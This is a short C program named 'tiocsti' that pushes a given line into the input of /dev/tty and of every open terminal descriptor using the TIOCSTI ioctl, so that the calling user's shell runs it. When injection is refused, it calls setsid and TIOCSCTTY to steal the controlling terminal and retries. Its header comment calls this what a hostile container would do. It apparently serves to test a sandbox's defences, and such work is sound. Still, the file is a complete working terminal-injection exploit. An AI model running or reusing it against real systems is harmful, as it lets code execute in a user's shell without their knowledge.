/* tiocsti TEXT: try to push TEXT into the input of every terminal this process can reach, as a
 * hostile container would to have the caller's shell run it once guise returns.
 *
 * Targets: /dev/tty (the controlling terminal), then every open descriptor 0-1023 that is a
 * terminal.  When TIOCSTI is refused on a descriptor, this tries to make its terminal the
 * controlling one (setsid, then TIOCSCTTY with arg 1, which steals it from another session
 * given CAP_SYS_ADMIN) and pushes again.  One line per target: "TARGET injected" or
 * "TARGET refused: ERROR".  Exits 0 unless it cannot run at all. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

/* 0 once every byte of text is in the terminal's input queue, else the errno. */
static int push(int fd, const char *text)
{
  for (const char *c = text; *c != '\0'; c++)
    if (ioctl(fd, TIOCSTI, c) < 0) return errno;
  return 0;
}

static void report(const char *target, int error)
{
  if (error == 0)
    printf("%s injected\n", target);
  else
    printf("%s refused: %s\n", target, strerror(error));
  fflush(stdout);
}

int main(int argc, char **argv)
{
  if (argc != 2) {
    fprintf(stderr, "usage: tiocsti TEXT\n");
    return 2;
  }
  char text[4096];
  snprintf(text, sizeof(text), "%s\n", argv[1]);

  int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  report("/dev/tty", tty < 0 ? errno : push(tty, text));
  if (tty >= 0) close(tty);

  for (int fd = 0; fd < 1024; fd++) {
    if (!isatty(fd)) continue;
    char target[32];
    snprintf(target, sizeof(target), "fd %d", fd);
    int error = push(fd, text);
    if (error != 0) {
      setsid(); /* fails when already a session leader: TIOCSCTTY tells */
      if (ioctl(fd, TIOCSCTTY, 1) == 0) error = push(fd, text);
    }
    report(target, error);
  }
  return 0;
}
